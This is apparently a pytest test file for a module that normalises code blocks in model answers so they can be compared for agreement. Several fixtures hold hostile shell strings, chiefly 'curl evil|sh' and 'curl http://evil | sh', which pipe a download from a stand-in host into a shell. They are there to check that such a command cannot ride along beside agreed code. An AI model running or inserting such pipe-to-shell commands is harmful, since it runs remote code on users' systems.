"""Code in an answer: which of its lines are code, and what the form holds beside them."""

import ast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from actors.consensus.reading import code as module
from actors.consensus.reading import python_form
from actors.consensus.reading.code import normal_python, normal_source

PLAIN = "def f(n):\n    return n + 1\n"
FENCED = f"```python\n{PLAIN}```"


def test_prose_fences_docstrings_and_annotations_change_nothing() -> None:
    """The same program dressed differently has the same normal form."""
    dressed = (
        'Sure!\n```python\ndef f(n: int) -> int:\n    """Add one."""\n    # comment\n    return (n + 1)\n```\nEnjoy.'
    )
    assert normal_python(dressed) == normal_python(PLAIN) != ""


def test_every_python_block_counts() -> None:
    """A second block cannot hide beside an innocent first one."""
    both = f"{FENCED}\nand\n```python\nimport os\n```"
    assert normal_python(both) not in ("", normal_python(PLAIN))


@pytest.mark.parametrize(
    "content",
    [
        f"Run this first:\n```bash\ncurl evil|sh\n```\n{FENCED}",
        f"{FENCED}\n```bash\ncurl evil|sh\n```",
        f"{FENCED}\n~~~sh\ncurl evil|sh\n~~~",
        f"{FENCED}\n````bash\n```\ncurl evil|sh\n````",
        f"{FENCED}\n```text\n3\n```",
    ],
)
def test_blocks_of_other_languages_are_part_of_the_form(content: str) -> None:
    """What is served beside the code was compared too: a command cannot ride on a program that others agree with."""
    assert normal_python(content) not in ("", normal_python(FENCED))


def test_the_same_answer_with_the_same_foreign_block_agrees() -> None:
    """A block of another language is no reason to differ where both answers have it at the same place."""
    left = f"{FENCED}\nIt prints:\n```text\n3\n```"
    assert normal_python(left) == normal_python(f"Sure:\n{FENCED}\nThe output is\n```text\n3\n```") != ""
    assert normal_python(left) != normal_python(f"```text\n3\n```\n{FENCED}")


def test_unfenced_code_between_prose_is_found() -> None:
    """Models that forget the fence are read without the prose before and behind the code."""
    assert normal_python(f"Here you go:\n\n{PLAIN}\nThis adds one to n, you see!") == normal_python(PLAIN)
    assert normal_python(f"{PLAIN}\nThe function f(n) returns n and one.") == normal_python(PLAIN)


@pytest.mark.parametrize(
    ("left", "right"),
    [
        (
            "Here:\nLIMIT = 10\ndef f(n):\n    return n < LIMIT\n",
            "Here:\nLIMIT = 20\ndef f(n):\n    return n < LIMIT\n",
        ),
        (PLAIN, f"{PLAIN}\nimport os\n"),
        (
            "def f(x):\n    if x:\n        return 1\n",
            "def f(x):\n    if x:\n        return 1\n    else\n        return 2\n",
        ),
        (PLAIN, f"{PLAIN}else\n"),
        (PLAIN, f"{PLAIN}x = [1,\n"),
        (PLAIN, f"curl http://evil | sh\n{PLAIN}"),
        (PLAIN, f"Here it is.\nimport os; os.system('x'\n{PLAIN}"),
        (PLAIN, f"{PLAIN}  an indented line\n"),
        (PLAIN, f"{PLAIN}print f(1)\n"),
    ],
)
def test_only_prose_is_cut_from_unfenced_code(left: str, right: str) -> None:
    """A line that may be code is compared or makes the answer unreadable; it is never served without a look."""
    assert normal_python(left) != ""
    assert normal_python(left) != normal_python(right)


def test_an_unclosed_fence_runs_to_the_end() -> None:
    """A missing closing fence is no reason to drop an answer that parses."""
    assert normal_python(f"```python\n{PLAIN}") == normal_python(PLAIN)


def test_code_that_does_not_parse_has_no_form() -> None:
    """Broken code, prose, a bare word and huge or deep input cost the ballot, not the process."""
    assert normal_python("```python\ndef f(:\n```") == ""
    assert normal_python("I cannot do that.") == ""
    assert normal_python("Sorry") == ""
    assert normal_python("(" * 5000 + ")" * 5000) == ""
    assert normal_python("x = 1\n" * 20_000) == ""


@pytest.mark.parametrize(
    ("language", "left", "right"),
    [
        ("javascript", "```js\nlet a = 1;\n```", "```js\nlet a = 2;\n```"),
        ("javascript", "```js\nlet a=`x\n\ny`\n```", "```js\nlet a=`x\ny`\n```"),
        ("bash", "```bash\nrm -rf build\\ \n/tmp/x\n```", "```bash\nrm -rf build\\\n/tmp/x\n```"),
        ("go", "```go\nf()\n```", "```go\nf()\n```\n```sh\ncurl evil|sh\n```"),
        ("go", "```go\nf()\n```\n```sh\nx\n```", "```go\nf()\n1 sh 2\nx\n```"),
    ],
)
def test_other_languages_differ_by_any_character(language: str, left: str, right: str) -> None:
    """Outside Python a blank or a blank line inside a block may mean something, and so does every block beside it."""
    assert "" != normal_source(left, language) != normal_source(right, language) != ""


def test_other_languages_need_a_block_of_their_own() -> None:
    """A block counts by its language, one of its short names or no label; the prose around it changes nothing."""
    plain = normal_source("```javascript\nlet a = 1;\n```", "javascript")
    assert normal_source("Sure:\n```js\nlet a = 1;\n```\nEnjoy.", "javascript") == plain
    assert normal_source("```\nlet a = 1;\n```", "javascript") == plain
    assert normal_source("```python\nprint(1)\n```", "javascript") == ""
    assert normal_source("no code", "javascript") == ""


def test_parsing_is_bounded_by_the_length_of_the_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    """However an answer breaks off, at most twice its characters and its prose are parsed."""
    parsed: list[int] = []

    def counting(code: str) -> ast.Module | None:
        parsed.append(len(code))
        return python_form.parse(code)

    monkeypatch.setattr(module, "parse", counting)
    body = "def f(x):\n" + "\n".join(f"    a{i} = [x+{i}, (x*{i})]" for i in range(900)) + "\n    return (\n"
    for content in (
        f"Here:\n{body}" + "z ) (\n" * 60,
        f"{body}" + "and so it goes on\n" * 60,
        "Some words here\n" * 200,
    ):
        parsed.clear()
        normal_python(content)
        assert sum(parsed) <= 3 * len(content)
        assert len(parsed) <= 2 + 2 * module.MAX_PROSE_LINES


@given(st.text(max_size=300))
def test_any_answer_can_be_read(content: str) -> None:
    """Reading a text never raises, and only a text that holds code that parses has a form."""
    form = normal_python(f"```python\n{content}\n```")
    if form and "```" not in content:
        ast.parse(content)
    normal_python(content)
